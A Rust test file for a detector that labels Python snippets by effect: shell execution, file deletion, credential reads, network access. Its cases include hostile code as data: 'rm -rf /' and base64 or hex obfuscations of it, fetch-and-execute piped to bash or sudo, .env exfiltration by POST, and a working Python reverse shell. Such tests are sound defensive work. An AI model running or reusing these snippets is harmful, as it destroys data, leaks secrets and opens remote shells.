// SPDX-License-Identifier: Apache-2.0 OR MIT

use super::check;

#[test]
fn programs_and_shells() {
    check(
        "python",
        &[
            (r#"import os; os.system("rm -rf ~")"#, "shell rm -rf ~"),
            (r"import os as o; o.system('ls')", "shell ls"),
            (r#"from os import system as s; s("id")"#, "shell id"),
            (r#"from os import *; system("id")"#, "shell id"),
            (r#"__import__('os').system("x")"#, "shell x"),
            (r#"import importlib; importlib.import_module("os").popen("x")"#, "shell x"),
            (r"import os; getattr(os, 'sys'+'tem')('id')", "shell id"),
            (r"import os; os.__dict__['system']('id')", "shell id"),
            (r#"f = os.system; f("id")"#, "shell id"),
            (r#"import os; os.execvp("rm", ["rm", "-rf", "/"])"#, "start rm|-rf|/"),
            (r#"import os; os.execl("/bin/rm", "rm", "-rf", "/")"#, "start /bin/rm|-rf|/"),
            (r#"import os; os.spawnlp(os.P_WAIT, "rm", "rm", "x")"#, "start rm|x"),
            (r#"import subprocess; subprocess.run(["rm", "-rf", "x"], check=True)"#, "start rm|-rf|x"),
            (r#"import subprocess; subprocess.run("rm -rf x", shell=True)"#, "shell rm -rf x"),
            (r#"import subprocess; subprocess.check_output("ls")"#, "start ls"),
            (r#"import subprocess as s; s.Popen(["git"] + ["push", "-f"])"#, "start git|push|-f"),
            (r#"from subprocess import run; run("rm {}".format("/etc"), shell=True)"#, "shell rm /etc"),
            (r#"import subprocess, shlex; subprocess.run(shlex.split("rm -rf /"))"#, "start rm|-rf|/"),
            (r#"import subprocess; subprocess.call("rm -rf /".split())"#, "start rm|-rf|/"),
            ("import subprocess\nsubprocess.run(cmd, shell=True)", "shell *?"),
            ("import subprocess\nsubprocess.getoutput(f'rm -rf {x}')", "shell rm -rf *?"),
            ("import os\nd = '/etc'\nos.system(f'rm -rf {d}/x')", "shell rm -rf /etc/x"),
            ("import os\nos.system('rm %s' % '/etc')", "shell rm /etc"),
            (r#"import os; os.system("\x72\x6d -rf /")"#, "shell rm -rf /"),
            (r#"import os; os.system(chr(114)+chr(109)+" x")"#, "shell rm x"),
            (r#"import os; os.system(bytes.fromhex("726d2078").decode())"#, "shell rm x"),
            (r#"import os,base64; os.system(base64.b64decode("cm0gLXJmIC8=").decode())"#, "shell rm -rf /"),
            (r#"import os; os.system("".join(["r","m"," x"]))"#, "shell rm x"),
            (r#"import os; os.system("/ fr- mr"[::-1])"#, "shell rm -rf /"),
            (r#"import os; os.system("a" if x else "b")"#, "shell a; shell b"),
            (r#"exec("import os; os.system('id')")"#, "shell id"),
            (r#"exec(compile("import os\nos.remove('x')", "a", "exec"))"#, "delete x"),
            (r#"eval("__import__('os').system('id')")"#, "shell id"),
            (r#"import base64; exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5yZW1vdmUoJ3gnKQ=="))"#, "delete x"),
            ("exec(x)", "runs-unknown"),
            ("import sys; exec(sys.stdin.read())", "runs-input"),
            ("import os, sys; os.system(sys.argv[1])", "shell *?"),
        ],
    );
}

#[test]
fn files() {
    check(
        "python",
        &[
            (r#"import shutil; shutil.rmtree("/home")"#, "delete! /home"),
            (r#"import os; vars(os)["sys" "tem"]("id")"#, "shell id"),
            (r#"import os; vars(a)["x"]("id")"#, ""),
            (r"from shutil import rmtree; rmtree(path='/x', ignore_errors=True)", "delete! /x"),
            (r#"import os; os.remove(os.path.expanduser("~/.ssh/id_rsa"))"#, "delete ~/.ssh/id_rsa"),
            (r#"import os; os.unlink(os.path.join(os.environ["HOME"], ".bashrc"))"#, "delete ~/.bashrc"),
            (r#"import os; os.rename("a", "b")"#, "move a; write b"),
            (r#"import os; os.chmod("/etc/shadow", 0o777)"#, "permit /etc/shadow"),
            (r#"import os; os.chdir("/"); os.remove("etc")"#, "delete /etc"),
            (r#"open("/etc/passwd", "a").write("x")"#, "append /etc/passwd"),
            (r#"open("/etc/passwd").read()"#, "read /etc/passwd"),
            (r#"with open('.env', mode='w') as f: f.write("a")"#, "write .env"),
            (r#"open(p, "r+")"#, "read *?; write *?"),
            (r#"from pathlib import Path; Path("a").write_text("x")"#, "write a"),
            (
                r#"from pathlib import Path; (Path.home() / ".ssh" / "config").unlink()"#,
                "delete ~/.ssh/config",
            ),
            (r#"import pathlib; pathlib.Path("~/x").expanduser().read_text()"#, "read ~/x"),
            (
                "from pathlib import Path\nfor p in Path('/var').rglob('*'):\n    p.unlink()",
                "delete! /var/**/*#",
            ),
            ("from pathlib import Path\nfor p in Path('.').glob('*.pyc'): p.unlink()", "delete ./*.pyc#"),
            ("import glob, os\nfor p in glob.glob('/home/*'): os.remove(p)", "delete /home/*#"),
            ("import glob, os\n[os.remove(f) for f in glob.glob('/tmp/*')]", "delete /tmp/*#"),
            ("import glob, os\nlist(map(os.remove, glob.glob('x/*')))", "delete x/*#"),
            (
                "import os\nfor r, d, f in os.walk('/'):\n  for n in f:\n    os.remove(os.path.join(r, n))",
                "delete! /**#",
            ),
            ("import os\nfor f in os.listdir('/etc'):\n  os.remove('/etc/' + f)", "delete /etc/*#"),
            ("import os\nfor f in ['a', 'b']:\n  os.remove(f)", "delete a; delete b"),
            ("import os\np = 'a'\nif x:\n  p = '/b'\nos.remove(p)", "delete a; delete /b"),
            ("import shutil\nshutil.copytree('a', '/b')", "read! a; write! /b"),
            ("exec(open('setup.py').read())", "read setup.py; run setup.py"),
            (
                "import tempfile, shutil\nd = tempfile.mkdtemp()\nshutil.rmtree(d)",
                "delete! /tmp/tmp.XXXXXXXXXX",
            ),
        ],
    );
}

#[test]
fn the_network() {
    check(
        "python",
        &[
            (r#"import requests; requests.get("https://x.io/a").json()"#, "connect https://x.io/a"),
            (
                r#"import urllib.request; exec(urllib.request.urlopen("http://x.io").read())"#,
                "connect http://x.io; runs-fetched",
            ),
            (
                r#"import requests; r = requests.get("http://x.io"); exec(r.text)"#,
                "connect http://x.io; runs-fetched",
            ),
            (
                r#"import subprocess, urllib.request
script = urllib.request.urlopen("http://x.io").read()
subprocess.run(["bash"], input=script)"#,
                "connect http://x.io; start bash; shell-runs-fetched",
            ),
            (
                r#"import subprocess, requests
subprocess.check_output(["sudo", "sh", "-s"], input=requests.get("http://x.io").text.encode())"#,
                "connect http://x.io; start sudo|sh|-s; shell-runs-fetched",
            ),
            (
                r#"import subprocess, requests
subprocess.run("bash", shell=True, input=requests.get("http://x.io").content)"#,
                "connect http://x.io; shell bash; shell-runs-fetched",
            ),
            (
                r#"import subprocess, requests
p = subprocess.Popen(["bash"], stdin=subprocess.PIPE)
p.communicate(requests.get("http://x.io").content)"#,
                "start bash; connect http://x.io; shell-runs-fetched",
            ),
            (
                r#"import subprocess, requests
p = subprocess.Popen(["sh", "-s"], stdin=subprocess.PIPE)
p.stdin.write(requests.get("http://x.io").content)"#,
                "start sh|-s; connect http://x.io; shell-runs-fetched",
            ),
            (
                r#"import subprocess, requests
subprocess.run(["jq", "."], input=requests.get("http://x.io").content)"#,
                "connect http://x.io; start jq|.",
            ),
            (
                r#"import subprocess, requests
subprocess.run(["bash", "import.sh"], input=requests.get("http://x.io").content)"#,
                "connect http://x.io; start bash|import.sh",
            ),
            (
                r#"import subprocess
subprocess.run(["bash"], input="ls")"#,
                "start bash",
            ),
            (r#"import requests as r; requests.post(u, data=open(".env").read())"#, "read .env; connect *?"),
            (r#"import http.client; http.client.HTTPSConnection("x.io")"#, "connect https://x.io"),
            (
                "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])",
                "connect tcp://10.0.0.1:4242; start /bin/sh|-i; reverse-shell",
            ),
            ("import socket; socket.create_connection(('x.io', 80))", "connect tcp://x.io:80"),
        ],
    );
}

#[test]
fn what_only_looks_like_it() {
    check(
        "python",
        &[
            (r#"print("rm -rf /")"#, ""),
            ("# os.system('rm -rf /')", ""),
            ("'''\nimport os\nos.system('x')\n'''", ""),
            (r#"x = "os.remove('/etc')""#, ""),
            ("import os\nprint(os.path.join('/etc', 'passwd'))", ""),
            ("import json, sys\nprint(json.load(sys.stdin)['a'])", ""),
            ("d = {}\nd.remove('x')", ""),
            ("l = [1]\nl.remove(1); l.pop()", ""),
            ("import os\nfor r, d, f in os.walk('.'):\n  print(r)", ""),
            ("cursor.execute('drop table x')", ""),
            ("re.compile('os.system')", ""),
            ("system('x')", ""),
            ("class A:\n  def remove(self, x): return x\nA().remove('/')", ""),
            ("def system(x):\n  return x\n", ""),
            ("x = 1 / 2; y = 'a' 'b'", ""),
            ("assert open", ""),
            ("import ast; ast.literal_eval('1')", ""),
            ("model.eval()", ""),
            ("socket = 1\nprint(socket)", ""),
            ("print(open('README.md').read())", "read README.md"),
            ("open('out/x.json', 'w').write('{}')", "write out/x.json"),
            ("import subprocess\nsubprocess.run(['ls', '-la'])", "start ls|-la"),
        ],
    );
}

#[test]
fn a_function_gets_the_arguments_of_its_calls() {
    check(
        "python",
        &[
            ("def w(p):\n    open(p, 'w').write('x')\nw('/usr/x')", "write /usr/x"),
            (
                "def w(u, p: str = 'y'):\n    with open(p, 'w') as f:\n        f.write(u)\nx = '/usr/x'\nw('a', x)",
                "write /usr/x",
            ),
            ("import os\ndef r(c):\n    os.system(c)\nr('rm -rf /')", "shell rm -rf /"),
            ("import os\ndef r(c):\n    os.system(c)\nr(other())", "shell *?"),
        ],
    );
}
